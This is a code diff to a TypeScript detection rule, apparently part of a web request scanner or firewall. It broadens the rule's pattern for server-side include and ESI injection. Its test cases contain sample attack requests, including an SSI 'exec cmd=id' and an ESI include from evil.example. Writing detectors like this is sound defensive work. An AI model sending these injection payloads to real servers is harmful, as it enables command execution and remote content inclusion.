@@ -3,7 +3,7 @@ import { defineRule } from '../rule.ts'
 export default defineRule({
   id: 'ssi/directive',
   title: 'Server-side include',
-  why: 'Asks the server to run a program or insert a file while it delivers a page.',
+  why: 'Asks the server, or the cache before it (ESI), to run a program or insert a file while it delivers a page.',
   ja: {
     title: 'サーバーサイドインクルード',
     why: 'ページ配信時にプログラム実行やファイル挿入をさせます。',
@@ -15,9 +15,15 @@ export default defineRule({
   refs: ['https://owasp.org/www-project-web-security-testing-guide/'],
 
   where: ['query', 'arg', 'path', 'referrer', 'agent'],
-  needs: ['<!--', ['exec', 'include', 'echo', 'printenv']],
-  match: /<!--\s{0,5}#?\s{0,5}(?:exec|include|echo|printenv)\b/i,
+  needs: [['<!--', '<esi:', '/esi:']],
+  match:
+    /<!--\s{0,5}#?\s{0,5}(?:exec|include|echo|printenv)\b|<!--\s{0,5}#\s{0,5}(?:config|flastmod|fsize|set|if|elif)\s|<\/?esi:[a-z]|<!--\s?esi\b/i,
 
-  hits: ['GET /s?q=<!--#exec+cmd="id"-->', 'GET /s?q=<!--#echo+var="DATE_LOCAL"-->'],
+  hits: [
+    'GET /s?q=<!--#exec+cmd="id"-->',
+    'GET /s?q=<!--#echo+var="DATE_LOCAL"-->',
+    'GET /s?q=<!--#flastmod+virtual="a"-->',
+    'GET /s?q=<esi:include+src=http://evil.example/>',
+  ],
   misses: ['GET /s?q=<!--+comment+-->', 'GET /docs/include'],
 })
